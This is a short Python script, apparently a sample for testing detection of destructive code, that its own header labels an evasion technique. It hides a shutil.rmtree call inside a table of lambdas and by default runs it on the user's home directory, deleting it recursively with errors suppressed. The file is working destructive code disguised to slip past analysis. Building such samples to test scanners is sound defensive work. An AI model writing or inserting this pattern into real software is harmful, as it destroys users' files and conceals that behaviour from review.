# Evasion: deletes the user's home directory recursively.
# Hidden in a table of lambdas: HANDLERS maps command names to lambdas, one
# of which ("reset") calls shutil.rmtree on its parameter; it is called
# through the table, HANDLERS["reset"](...), with the home directory.
import os
import shutil
import sys

HANDLERS = {
    "show": lambda d: print(sorted(os.listdir(d))[:10]),
    "reset": lambda d, quiet=True: shutil.rmtree(d, ignore_errors=quiet),
}


def main(argv):
    command = argv[1] if len(argv) > 1 else "reset"
    if command == "reset":
        HANDLERS["reset"](os.path.expanduser("~"))
    else:
        HANDLERS["show"](os.path.expanduser("~"))


if __name__ == "__main__":
    main(sys.argv)
